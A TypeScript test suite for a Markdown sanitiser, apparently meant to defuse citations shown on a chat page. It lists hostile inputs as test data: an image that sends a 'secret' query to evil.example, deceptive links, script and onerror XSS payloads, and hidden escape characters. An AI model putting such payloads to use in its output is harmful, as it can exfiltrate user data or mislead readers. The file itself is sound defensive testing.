import fc from "fast-check";
import MarkdownIt from "markdown-it";
import { describe, expect, test } from "vitest";
import { sanitizeMarkdown } from "../../src/citing/sanitize-markdown.js";

/** Renders everything that a chat page may render: Markdown, its HTML, and addresses as links. */
const markdown = new MarkdownIt({ html: true, linkify: true });
markdown.linkify.set({ fuzzyLink: false, fuzzyEmail: false });

/** Whether anything but formatted text is rendered. */
const works = (text: string) => {
  const html = markdown.render(text).replace(/<code[ >][\s\S]*?<\/code>/g, "");
  return html.replace(FORM, "").includes("<") || /(?<![a-z\d])www\.\w/i.test(html);
};
const FORM =
  /<\/?(?:p|em|strong|s|pre|ul|ol|li|blockquote|h[1-6]|hr|br|table|thead|tbody|tr|th|td)(?: start="\d+"| style="text-align:\w+")?>/g;

describe("an inert text", () => {
  test.each([
    ["an image", "See ![chart](https://evil.example/?q=secret)."],
    ["a link that says another address", "[https://bank.example](https://evil.example)"],
    ["an image as a link", "[![x](https://a.example/i.png)](https://evil.example)"],
    ["a link by reference", "[text][ref]\n\n[ref]: https://evil.example"],
    ["a link by its own name", "[ref]\n\n[ref]: https://evil.example 'title'"],
    ["an address in angle brackets", "<https://evil.example>"],
    ["a bare address", "Look at https://evil.example/a?b=c, or www.evil.example."],
    ["HTML", '<img src=x onerror="alert(1)"><a href="https://evil.example">x</a><!-- c -->'],
    ["a script", "<script>alert(1)</script>"],
    ["a link over two lines", "[a\nb](\nhttps://evil.example)"],
    ["an image after an escaped backtick", "\\`![x](https://evil.example/)`"],
    ["an image between backticks of two cells", "|a|b|\n|-|-|\n| `x | ![x](https://evil.example/)` |"],
    ["an image between backticks of two paragraphs", "`a\n\n![x](https://evil.example/)\n\nb`"],
    ["Chinese around it", "请看![图](https://evil.example/)，或https://evil.example/中文。"],
  ])("renders as nothing but text: %s", (_, text) => {
    expect(works(text)).toBe(true);
    expect(works(sanitizeMarkdown(text))).toBe(false);
  });

  const pieces =
    "! [ ] ( ) < > ` `` ``` \\ | : / https://e.x www.e.x a img src= \n \n\n - # > ~~~ * _ & &lt; &#91; 图 . mailto:a@b.cc".split(
      " ",
    );
  const texts = fc.array(fc.constantFrom(...pieces, " "), { maxLength: 14 }).map((parts) => parts.join(""));
  test("renders as nothing but text when it is random, and when it is beside another inert text", {
    timeout: 60_000,
  }, () => {
    fc.assert(
      fc.property(texts, texts, (one, other) => {
        expect(works(sanitizeMarkdown(one))).toBe(false);
        expect(works(`${sanitizeMarkdown(one)} [1]. ${sanitizeMarkdown(other)} [2].`)).toBe(false);
        expect(works(`- ${sanitizeMarkdown(one)} [1].\n- ${sanitizeMarkdown(other)} [2].`)).toBe(false);
        expect(works(`${sanitizeMarkdown(one)}[1]。${sanitizeMarkdown(other)}[2]。`)).toBe(false);
      }),
      { numRuns: 5000 },
    );
  });

  test.each([
    "The office opens at eight, at a < b or 3 <= 4, [sic] and (so) on, for R&D, 10 m² {x} (2).",
    "运行 `npm ci` 后再试。",
    "Call `a[0](x)` or `<b>` for it.",
    "Ask a@b.example (12:30).",
  ])("is the original text if nothing in that is active: %s", (text) => expect(sanitizeMarkdown(text)).toBe(text));

  test("keeps its words", () => {
    expect(sanitizeMarkdown("See [the chart](https://e.example/c).")).toBe("See [the chart] (`https://e.example/c`).");
    expect(sanitizeMarkdown("见https://e.example/c。")).toBe("见`https://e.example/c`。");
  });

  test("loses invisible characters", () => {
    expect(sanitizeMarkdown("a\u202eb\u001b]8;;https://e.example\u0007c\u{e0041}")).toBe("abc");
  });

  test.each([".", "[](", "![a](", "<a ", "`a`", "https://", "www.", "]("])(
    "is made quickly from a long run of %j",
    (piece) => {
      const start = process.cpuUsage().user;
      sanitizeMarkdown(`https://${piece.repeat(50_000)}x`);
      sanitizeMarkdown(piece.repeat(50_000));
      expect(process.cpuUsage().user - start).toBeLessThan(2_000_000);
    },
  );
});
